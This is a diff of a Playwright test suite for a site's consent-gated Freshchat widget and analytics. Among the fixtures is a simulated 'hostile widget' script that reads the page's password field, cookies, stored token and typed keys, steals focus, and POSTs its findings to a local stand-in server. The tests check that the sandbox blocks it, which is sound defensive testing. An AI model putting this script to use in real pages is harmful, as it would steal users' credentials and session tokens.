@@ -3,8 +3,9 @@ import { once } from 'node:events'
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import type { Page } from '@playwright/test'
+import type { Words } from '@lustra/words'
 import { expectAccessible } from './environment/accessibility.ts'
-import { expect, test } from './environment/journey.ts'
+import { expect, test as base } from './environment/journey.ts'
 import type { JourneyServer } from './environment/server.ts'
 import { SettingsPage } from './pages/SettingsPage.ts'
 import { SignInPage } from './pages/SignInPage.ts'
@@ -12,27 +13,34 @@ import { SignInPage } from './pages/SignInPage.ts'
 /** The server notices a setting within five seconds. */
 const patience = { timeout: 20_000 }
 
-/** Freshchat and Google Analytics: the widget is a button that can be opened and closed. */
-async function startOutside(script = widget) {
-  const requests: { readonly path: string; readonly at: number; readonly body: string }[] = []
+interface Outside extends AsyncDisposable {
+  readonly address: string
+  readonly requests: { readonly path: string; readonly at: number; readonly body: string }[]
+  /** What it sends as the script of the widget. */
+  script: string
+}
+
+/** Freshchat and Google Analytics. */
+async function startOutside(): Promise<Outside> {
   const server = createServer((request, response) => {
     let body = ''
     request.on('data', (chunk: Buffer) => (body += chunk.toString()))
     request.on('end', () => {
-      requests.push({ path: request.url ?? '', at: Date.now(), body })
+      outside.requests.push({ path: request.url ?? '', at: Date.now(), body })
       if (!request.url?.startsWith('/js/')) return response.writeHead(204).end()
       response.writeHead(200, {
         'content-type': 'text/javascript',
         'cross-origin-resource-policy': 'cross-origin',
       })
-      response.end(script)
+      response.end(outside.script)
     })
   })
   server.listen(0, '127.0.0.1')
   await once(server, 'listening')
   const { port } = server.address() as AddressInfo
-  return {
-    requests,
+  const outside: Outside = {
+    requests: [],
+    script: widget,
     address: `http://127.0.0.1:${port}`,
     async [Symbol.asyncDispose]() {
       server.closeAllConnections()
@@ -40,25 +48,42 @@ async function startOutside(script = widget) {
       await once(server, 'close')
     },
   }
+  return outside
 }
 
+const test = base.extend<{ freshchat: Outside; google: Outside }, { outside: Outside }>({
+  // It has one address as long as the server: a page may still follow a setting of the journey before.
+  outside: [
+    async ({}, use) => {
+      await using outside = await startOutside()
+      await use(outside)
+    },
+    { scope: 'worker' },
+  ],
+  freshchat: async ({ outside }, use) => use(Object.assign(outside, { script: widget, requests: [] })),
+  google: async ({ outside }, use) => use(Object.assign(outside, { requests: [] })),
+})
+
+/** The widget is a text field with a button that closes it. */
 const widget = `
 const listeners = {}
-let isOpen = false
+const panel = document.createElement('section')
 globalThis.fcWidget = {
   on(name, listener) { listeners[name] = listener },
-  init({ token, host, locale }) {
-    const button = document.createElement('button')
-    button.textContent = [token, locale].join(' ')
-    button.style = 'position:fixed;right:16px;bottom:16px;width:60px;height:60px;border-radius:30px'
-    button.onclick = () => listeners[(isOpen = !isOpen) ? 'widget:opened' : 'widget:closed']()
-    document.body.append(button)
+  init({ token, locale, open }) {
+    panel.hidden = !open
+    panel.append(document.createElement('input'), document.createElement('button'))
+    panel.lastChild.textContent = [token, locale].join(' ')
+    panel.lastChild.onclick = () => { panel.hidden = true; listeners['widget:closed']() }
+    document.body.append(panel)
   },
 }`
 
 /** A script of Freshchat that was taken over: it tells what it can read and change, again and again. */
 const hostileWidget = `
 const { origin } = new URL(document.currentScript.src)
+const field = document.createElement('input')
+document.body.append(field)
 const attempts = {
   'the password': () => parent.document.querySelector('input[name=password]').value,
   'the address of the page': () => parent.location.href,
@@ -66,9 +91,15 @@ const attempts = {
   'the storage of the page': () => parent.localStorage.getItem('lustra.token'),
   'its own storage': () => localStorage.getItem('lustra.token'),
   'its cookies': () => document.cookie,
+  'typed keys': () => { if (field.value === '') throw new Error('none'); return field.value },
 }
 const report = (found) =>
   fetch(origin + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
+setInterval(() => {
+  globalThis.focus()
+  field.focus()
+  for (const chat of ['open', 'start', 'large']) parent.postMessage({ chat }, '*')
+}, 20)
 setInterval(() => {
   for (const [what, attempt] of Object.entries(attempts)) {
     try { report({ what, read: String(attempt()) }) } catch { report({ what, read: null }) }
@@ -96,8 +127,8 @@ async function frameChat(page: Page): Promise<void> {
   )
 }
 
-/** Opens the sign-in page of somebody who has allowed the chat, which has begun. */
-async function switchOnChat(page: Page, server: JourneyServer, address: string): Promise<void> {
+/** Opens the sign-in page of somebody who has allowed the chat, and waits for its button. */
+async function switchOnChat(page: Page, words: Words, server: JourneyServer, address: string): Promise<void> {
   await server.setSetting('freshchat_url', address)
   await server.setSetting('freshchat_token', 'a-token')
   await server.setSetting('freshchat_enabled', 'true')
@@ -107,13 +138,9 @@ async function switchOnChat(page: Page, server: JourneyServer, address: string):
   })
   // A page that was sent before the server noticed the setting admits no frame.
   await expect(async () => {
-    const { 'content-security-policy': policy } = (await page.request.get('/web/login')).headers()
-    expect(policy).toContain('frame-src')
-  }).toPass(patience)
-  await expect(async () => {
-    const script = page.waitForResponse(`${address}/js/widget.js`, { timeout: 4000 })
-    await page.goto('/web/login')
-    await script
+    const reply = await page.goto('/web/login')
+    expect(reply!.headers()['content-security-policy']).toContain('frame-src')
+    await expect(page.getByRole('button', { name: words.consent.chat })).toBeVisible({ timeout: 4000 })
   }).toPass(patience)
 }
 
@@ -131,10 +158,11 @@ for (const [language, theme] of [
       // The address of the chat's frame, opened without one, has no page.
       test.use({ signedIn: false, expectedErrors: [/status of 404/] })
 
-      test('the chat begins 1.5 seconds after the page, after consent only, and ends with it (ACC-002, INT-050, INT-051, INT-N17)', async ({
+      test('the button of the chat comes 1.5 seconds after the page, after consent only, and its frame by a press (ACC-002, INT-050, INT-051, INT-N17, INT-N35)', async ({
         page,
         words,
         server,
+        freshchat,
       }) => {
         const { consent: texts } = words
         const question = page.getByRole('region', { name: texts.question })
@@ -145,7 +173,6 @@ for (const [language, theme] of [
           await expect(question).toBeHidden({ timeout: 1000 })
         }).toPass(patience)
 
-        await using freshchat = await startOutside()
         await server.setSetting('freshchat_url', freshchat.address)
         await server.setSetting('freshchat_token', 'a-token')
         await server.setSetting('freshchat_enabled', 'true')
@@ -190,17 +217,50 @@ for (const [language, theme] of [
         await expect(page.getByRole('button', { name: texts.allow, exact: true })).toBeFocused()
         await page.keyboard.press('Enter')
         await expect(page.getByText(texts.states.chat.on)).toBeVisible()
+        const button = page.getByRole('button', { name: texts.chat })
+        const dialog = page.getByRole('dialog', { name: texts.chat })
         const frame = page.frameLocator(`iframe[title="${texts.chat}"]`)
-        await expect(frame.getByRole('button', { name: `a-token ${language}` })).toBeVisible()
+        await expect(button).toBeVisible()
 
         for (const path of ['/web/login', '/web/register', '/web/reset-password']) {
-          freshchat.requests.length = 0
           const openedAt = Date.now()
           await page.goto(path)
-          await expect(frame.getByRole('button')).toBeVisible()
-          expect(freshchat.requests).toHaveLength(1)
-          expect(freshchat.requests[0]!.at - openedAt).toBeGreaterThanOrEqual(1500)
+          await expect(button).toBeVisible()
+          expect(Date.now() - openedAt).toBeGreaterThanOrEqual(1500)
+          const focused = await page.evaluate(() => document.activeElement?.outerHTML)
+          await page.waitForTimeout(500)
+          expect(freshchat.requests, 'before a press').toEqual([])
+          await expect(page.locator('iframe')).toHaveCount(0)
+          expect(await page.evaluate(() => document.activeElement?.outerHTML)).toBe(focused)
         }
+        await button.press('Enter')
+        await expect(frame.getByRole('button', { name: `a-token ${language}` })).toBeVisible()
+        expect(freshchat.requests).toHaveLength(1)
+        await expect(page.locator('iframe')).toBeFocused()
+        await expect(dialog).toContainText(texts.chatEnds)
+        await expectAccessible(page, '[role=dialog]')
+        for (const [width, height] of [
+          [1440, 900],
+          [390, 844],
+        ] as const) {
+          await page.setViewportSize({ width, height })
+          expect(await overflowOf(page), 'pixels beyond the width').toBeLessThanOrEqual(0)
+          await expect(dialog.getByRole('button', { name: words.widgets.close })).toBeInViewport({ ratio: 1 })
+          await frame.getByRole('textbox').fill(`${width}`)
+        }
+        // A press beside it does not end the conversation.
+        await page.mouse.click(5, 5)
+        await expect(frame.getByRole('textbox')).toHaveValue('390')
+        await frame.getByRole('button').click()
+        await expect(dialog).toBeHidden()
+        await expect(page.locator('iframe')).toHaveCount(0)
+        await expect(button).toBeFocused()
+        await button.click()
+        await expect(frame.getByRole('button')).toBeVisible()
+        await dialog.getByRole('button', { name: words.widgets.close }).press('Enter')
+        await expect(dialog).toBeHidden()
+        await expect(button).toBeFocused()
+
         const link = page.getByRole('link', { name: texts.chatWindow })
         await expect(link).toHaveAttribute('target', '_blank')
         await expect(link).toHaveAttribute('rel', /noopener/)
@@ -208,12 +268,6 @@ for (const [language, theme] of [
           .get((await link.getAttribute('href'))!, { maxRedirects: 0 })
           .then((reply) => ({ status: reply.status(), location: reply.headers()['location']! }))
         expect([status, new URL(location).origin]).toEqual([302, freshchat.address])
-        const closed = (await page.locator('iframe').boundingBox())!
-        expect(closed.width).toBeLessThan(100)
-        await frame.getByRole('button').click()
-        await expect.poll(async () => (await page.locator('iframe').boundingBox())!.width).toBe(390)
-        await frame.getByRole('button').click()
-        await expect.poll(async () => (await page.locator('iframe').boundingBox())!.width).toBe(closed.width)
 
         // Other pages have none, nor has its own address.
         freshchat.requests.length = 0
@@ -223,18 +277,42 @@ for (const [language, theme] of [
         await expect(page.locator('iframe')).toHaveCount(0)
         expect(freshchat.requests).toEqual([])
         await page.goto('/web/login')
-        await expect(frame.getByRole('button')).toBeVisible()
+        await expect(button).toBeVisible()
         await server.setSetting('freshchat_enabled', 'false')
       })
 
-      test('the chat ends when somebody signs in, who gets a new page (INT-N17)', async ({
+      test.describe(() => {
+        test.use({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true })
+
+        test('by touch, the chat is opened and closed (ACC-002, INT-N35)', async ({
+          page,
+          words,
+          server,
+          freshchat,
+        }) => {
+          const { consent: texts } = words
+          await switchOnChat(page, words, server, freshchat.address)
+          await page.getByRole('button', { name: texts.chat }).tap()
+          const frame = page.frameLocator('iframe')
+          await frame.getByRole('textbox').tap()
+          await expect(frame.getByRole('textbox')).toBeFocused()
+          await page.getByRole('dialog').getByRole('button', { name: words.widgets.close }).tap()
+          await expect(page.locator('iframe')).toHaveCount(0)
+          await server.setSetting('freshchat_enabled', 'false')
+        })
+      })
+
+      test('somebody who has used the chat gets a new page at the sign-in (INT-N17)', async ({
         page,
         words,
         server,
         person,
+        freshchat,
       }) => {
-        await using freshchat = await startOutside()
-        await switchOnChat(page, server, freshchat.address)
+        await switchOnChat(page, words, server, freshchat.address)
+        await page.getByRole('button', { name: words.consent.chat }).click()
+        await expect(page.frameLocator('iframe').getByRole('button')).toBeVisible()
+        await page.getByRole('dialog').getByRole('button', { name: words.widgets.close }).click()
         await page.evaluate(() => Object.assign(window, { isFormerPage: true }))
         await new SignInPage(page, words).logIn(person.email, person.password)
         await expect(page).toHaveURL(/dashboard/)
@@ -256,24 +334,46 @@ for (const [language, theme] of [
         expectedErrors: [/\/web\/chat|sandbox|Content Security Policy|localStorage|\/web\/api/],
       })
 
-      test('a hostile widget reads nothing of the page, replaces no call, and has no token after the sign-in (INT-N17)', async ({
+      test('a hostile widget opens nothing, takes no focus and no key, reads nothing of the page, and has no token after the sign-in (INT-N17, INT-N35)', async ({
         page,
         words,
         server,
         person,
+        freshchat,
       }) => {
-        await using freshchat = await startOutside(hostileWidget)
-        await switchOnChat(page, server, freshchat.address)
+        freshchat.script = hostileWidget
+        await switchOnChat(page, words, server, freshchat.address)
+        const signIn = new SignInPage(page, words)
+        const button = page.getByRole('button', { name: words.consent.chat })
+        const dialog = page.getByRole('dialog')
+        const frame = page.locator('iframe')
         const reports = () =>
           freshchat.requests
             .filter(({ path }) => path === '/report')
             .map(({ body }) => JSON.parse(body) as { what: string; read: string | null })
-        await page.getByLabel(words.account.password, { exact: true }).fill(person.password)
+        const typePassword = async () => {
+          await signIn.password.fill('')
+          await signIn.password.pressSequentially(person.password, { delay: 30 })
+          await expect(signIn.password).toHaveValue(person.password)
+          await expect(signIn.password).toBeFocused()
+          await expect(frame).toHaveCount(0)
+        }
+        await typePassword()
+        expect(freshchat.requests, 'before a press').toEqual([])
+
+        await button.click()
         await expect
           .poll(() => reports().filter(({ what }) => what === 'the password').length)
           .toBeGreaterThan(2)
         await expect.poll(() => reports().some(({ what }) => what === 'a call of its own')).toBe(true)
         expect(await page.evaluate(() => String(fetch))).toContain('[native code]')
+        const { width, height } = (await frame.boundingBox())!
+        expect(width * height, 'of 1280 by 800 pixels').toBeLessThan(1280 * 400)
+        // While its frame is there, no key goes to a field of the page by mistake.
+        expect(await signIn.password.evaluate((field) => field.closest('[inert]') !== null)).toBe(true)
+
+        await dialog.getByRole('button', { name: words.widgets.close }).click()
+        await typePassword()
         await new SignInPage(page, words).logIn(person.email, person.password)
         await expect(page).toHaveURL(/dashboard/)
         expect(page.frames()).toHaveLength(1)
@@ -293,10 +393,16 @@ for (const [language, theme] of [
         page,
         words,
         server,
+        freshchat,
       }) => {
-        await using freshchat = await startOutside(storingWidget)
-        await switchOnChat(page, server, freshchat.address)
+        freshchat.script = storingWidget
+        await switchOnChat(page, words, server, freshchat.address)
+        await page.getByRole('button', { name: words.consent.chat }).click()
+        const dialog = page.getByRole('dialog')
+        await expect(dialog).toContainText(words.consent.chatFailed)
         await expect(page.locator('iframe')).toHaveCount(0)
+        await expect(dialog.getByRole('link', { name: words.consent.chatWindow })).toBeVisible()
+        await dialog.getByRole('button', { name: words.widgets.close }).click()
         await expect(page.getByRole('link', { name: words.consent.chatWindow })).toBeVisible()
         await server.setSetting('freshchat_enabled', 'false')
       })
@@ -306,6 +412,7 @@ for (const [language, theme] of [
       page,
       words,
       server,
+      google,
     }) => {
       const { consent: texts } = words
       const settings = new SettingsPage(page, words)
@@ -315,7 +422,6 @@ for (const [language, theme] of [
         await expect(allow).toBeHidden({ timeout: 1000 })
       }).toPass(patience)
 
-      await using google = await startOutside()
       await server.setSetting('google_analytics_url', google.address)
       await server.setSetting('google_analytics_id', 'G-TEST1')
       await server.setSetting('google_analytics_secret', 'a secret')
